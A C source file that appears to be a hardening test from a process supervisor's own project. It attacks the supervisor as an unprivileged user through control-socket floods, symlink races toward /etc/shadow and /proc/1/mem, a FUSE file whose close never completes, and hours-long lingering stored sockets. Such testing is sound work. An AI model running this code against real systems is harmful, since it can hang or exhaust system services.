// SPDX-License-Identifier: Apache-2.0

// Attacks a supervisor as a user without rights: intruder SECONDS SOCKET [FOLDER]
//
// On SOCKET, the control socket: more connections than a user may have, half messages, names of combining marks,
// descriptors, clients that do not read. In FOLDER, which is its own: links to root's files in place of those that its
// app names. As an app (NOTIFY_SOCKET): datagrams with descriptors of all kinds, one of a file of its own FUSE, whose
// close nobody answers.

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

enum { CONNECTIONS = 400, MARKS = 200000, MOST_DESCRIPTORS = 253 };

static time_t end;

static struct sockaddr_un address(const char *path)
{
    struct sockaddr_un found = {.sun_family = AF_UNIX};
    snprintf(found.sun_path, sizeof found.sun_path, "%s", path);
    return found;
}

static void send_with(int socket, const struct sockaddr_un *to, const char *text, size_t size, const int *fds, unsigned count)
{
    union {
        struct cmsghdr align;
        char bytes[CMSG_SPACE(sizeof(int) * MOST_DESCRIPTORS)];
    } control;
    struct iovec part = {.iov_base = (void *)text, .iov_len = size};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
    if (to != NULL) {
        message.msg_name = (void *)to;
        message.msg_namelen = sizeof *to;
    }
    if (count > 0) {
        memset(&control, 0, sizeof control);
        message.msg_control = control.bytes;
        message.msg_controllen = CMSG_SPACE(sizeof(int) * count);
        struct cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET;
        head->cmsg_type = SCM_RIGHTS;
        head->cmsg_len = CMSG_LEN(sizeof(int) * count);
        memcpy(CMSG_DATA(head), fds, sizeof(int) * count);
    }
    sendmsg(socket, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
}

static void flood(const char *path)
{
    static char marks[2 * MARKS + 64];
    struct sockaddr_un to = address(path);
    int begin = snprintf(marks, sizeof marks, "{\"method\":\"a");
    for (int i = 0; i < MARKS / 2; i++)
        memcpy(marks + begin + 4 * i, "\xcc\x81\xcc\xa3", 4);
    memcpy(marks + begin + 2 * MARKS, "\"}", 3);
    size_t size = (size_t)begin + 2 * MARKS + 3;
    int *open = calloc(CONNECTIONS, sizeof *open);
    while (time(NULL) < end) {
        for (int i = 0; i < CONNECTIONS; i++) {
            static const char half[] = "{\"method\":\"io.torpor.Manager.List";
            static const char whole[] = "{\"method\":\"io.torpor.Manager.List\"}";
            open[i] = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
            if (open[i] < 0 || connect(open[i], (struct sockaddr *)&to, sizeof to) < 0)
                continue;
            switch (i % 4) {
            case 0: send(open[i], half, sizeof half - 1, MSG_NOSIGNAL); break;
            case 1: send(open[i], marks, size, MSG_NOSIGNAL); break;
            case 2: send_with(open[i], NULL, whole, sizeof whole, (int[]){0, 0, 0}, 3); break;
            default:
                for (int again = 0; again < 200; again++)
                    send(open[i], whole, sizeof whole, MSG_NOSIGNAL);
            }
        }
        usleep(20000);
        for (int i = 0; i < CONNECTIONS; i++)
            if (open[i] >= 0)
                close(open[i]);
    }
}

static void link_things(const char *folder)
{
    static const char *const targets[] = {"/etc/shadow", "/root/made", "/proc/1/mem", "/dev/zero", "."};
    static const char *const names[] = {"err", "env", "in", "home"};
    if (chdir(folder) < 0)
        return;
    for (unsigned i = 0; time(NULL) < end; i++) {
        const char *name = names[i % 4];
        rmdir(name);
        unlink("next");
        switch (i / 4 % 3) {
        case 0: if (symlink(targets[i / 12 % 5], "next") < 0) usleep(1000); break;
        case 1: if (mkfifo("next", 0666) < 0) usleep(1000); break;
        default: close(open("next", O_CREAT | O_WRONLY | O_CLOEXEC, 0666));
        }
        rename("next", name);
        usleep(200);
    }
}

// The ids of a request and of its node, and its kind, as <linux/fuse.h> has them.
struct request {
    uint32_t length, code;
    uint64_t unique, node;
};

static void answer(int device, uint64_t unique, int error, const void *body, size_t size)
{
    char bytes[256];
    struct {
        uint32_t length;
        int32_t error;
        uint64_t unique;
    } head = {(uint32_t)(sizeof head + size), error, unique};
    memcpy(bytes, &head, sizeof head);
    if (size > 0)
        memcpy(bytes + sizeof head, body, size);
    if (write(device, bytes, sizeof head + size) < 0)
        _exit(0);
}

// A file system with one file; whoever closes it (FLUSH) waits for ever.
static void serve(int device)
{
    static char bytes[1 << 20];
    while (read(device, bytes, sizeof bytes) > 0) {
        struct request request;
        memcpy(&request, bytes, sizeof request);
        uint64_t words[16] = {0};
        uint32_t *attributes = (uint32_t *)(words + 5);  // behind a node's id, generation and times
        if (request.code == 26) {
            uint32_t init[16] = {7, 31, 0, 0, 12u << 16 | 16, 4096, 1};
            answer(device, request.unique, 0, init, 64);
        } else if (request.code == 1) {
            words[0] = 2;
            memcpy(attributes, &(uint64_t){2}, 8);
            attributes[15] = 0100644;
            attributes[16] = 1;
            answer(device, request.unique, 0, words, 128);
        } else if (request.code == 3) {
            uint32_t body[26] = {0};
            body[4] = (uint32_t)request.node;
            body[19] = request.node == 1 ? 040755 : 0100644;
            body[20] = 1;
            answer(device, request.unique, 0, body, 104);
        } else if (request.code == 14) {
            words[0] = 1;
            answer(device, request.unique, 0, words, 16);
        } else if (request.code != 25 && request.code != 2 && request.code != 36 && request.code != 42) {
            answer(device, request.unique, request.code == 18 ? 0 : -ENOSYS, NULL, 0);
        }
    }
    _exit(0);
}

static void write_to(const char *path, const char *text)
{
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file >= 0) {
        if (write(file, text, strlen(text)) < 0)
            perror(path);
        close(file);
    }
}

// -1 where users may have no namespaces, or there is no FUSE.
static int silent_file(void)
{
    char map[64], options[128];
    uid_t user = getuid();
    gid_t group = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        return -1;
    write_to("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", user);
    write_to("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", group);
    write_to("/proc/self/gid_map", map);
    int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
    if (device < 0 || mount("intruder", "/mnt", "fuse", MS_NOSUID | MS_NODEV, options) < 0)
        return -1;
    if (fork() == 0)
        serve(device);
    close(device);
    return open("/mnt/file", O_RDWR | O_CLOEXEC);
}

// Stores connections that would linger for hours, and has them let go of: whoever closes one last waits.
static void store_lingering(const char *path)
{
    struct sockaddr_un to = address(path);
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof here;
    static char much[65536];
    int out = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (bind(listener, (struct sockaddr *)&here, sizeof here) < 0 || listen(listener, 16) < 0
        || getsockname(listener, (struct sockaddr *)&here, &size) < 0)
        return;
    for (int round = 0; round < 4; round++) {
        struct linger hours = {1, 30000};
        int one = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), gate[2];
        if (connect(one, (struct sockaddr *)&here, sizeof here) < 0 || accept4(listener, NULL, NULL, SOCK_CLOEXEC) < 0
            || setsockopt(one, SOL_SOCKET, SO_LINGER, &hours, sizeof hours) < 0 || pipe(gate) < 0)
            return;
        while (send(one, much, sizeof much, MSG_DONTWAIT) > 0)
            continue;
        send_with(out, &to, "FDSTORE=1\nFDNAME=l", 18, &one, 1);
        usleep(200000);
        // Whoever exits does not linger.
        if (fork() == 0) {
            close(gate[1]);
            _exit(read(gate[0], much, 1) < 0);
        }
        close(one);
        close(gate[0]);
        close(gate[1]);
        usleep(100000);
        send_with(out, &to, "FDSTOREREMOVE=1\nFDNAME=l", 24, NULL, 0);
    }
    printf("has stored what lingers\n");
    fflush(stdout);
}

static void notify(const char *path)
{
    static const char *const texts[] = {
        "FDSTORE=1", "FDSTORE=1\nFDNAME=x", "STATUS=\xff\xfe", "BARRIER=1", "MAINPID=1", "X_TORPOR_TASK_BEGIN=t", "FDSTORE=1\nFDPOLL=0",
        "EXTEND_TIMEOUT_USEC=18446744073709551615", "FDSTOREREMOVE=1\nFDNAME=x", "WATCHDOG=1", "=", "READY=1",
    };
    struct sockaddr_un to = address(path);
    int silent = silent_file();
    printf(silent >= 0 ? "has a file of FUSE\n" : "has no FUSE: %s\n", strerror(errno));
    fflush(stdout);
    int out = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), ends[2];
    if (pipe2(ends, O_CLOEXEC) < 0)
        return;
    send_with(out, &to, "READY=1", 7, NULL, 0);
    for (unsigned i = 0; time(NULL) < end; i++) {
        int pair[2], one = i % 3 == 0 ? memfd_create("m", MFD_CLOEXEC) : eventfd(0, EFD_CLOEXEC);
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0)
            continue;
        int fds[MOST_DESCRIPTORS] = {one, ends[0], pair[0], silent >= 0 ? silent : one};
        for (unsigned j = 4; j < MOST_DESCRIPTORS; j++)
            fds[j] = one;
        const char *text = texts[i % (sizeof texts / sizeof *texts)];
        send_with(out, &to, text, strlen(text), fds, i % 7 == 0 ? MOST_DESCRIPTORS : i % 5);
        close(one);
        close(pair[0]);
        close(pair[1]);
        if (i % 100 == 0)
            usleep(5000);
    }
}

int main(int count, char **words)
{
    if (count < 3)
        return 2;
    signal(SIGPIPE, SIG_IGN);
    end = time(NULL) + atoi(words[1]);
    if (fork() == 0) {
        flood(words[2]);
        return 0;
    }
    if (count > 3 && fork() == 0) {
        link_things(words[3]);
        return 0;
    }
    const char *socket = getenv("NOTIFY_SOCKET");
    if (socket != NULL) {
        store_lingering(socket);
        notify(socket);
    }
    while (time(NULL) < end)
        sleep(1);
    return 0;
}
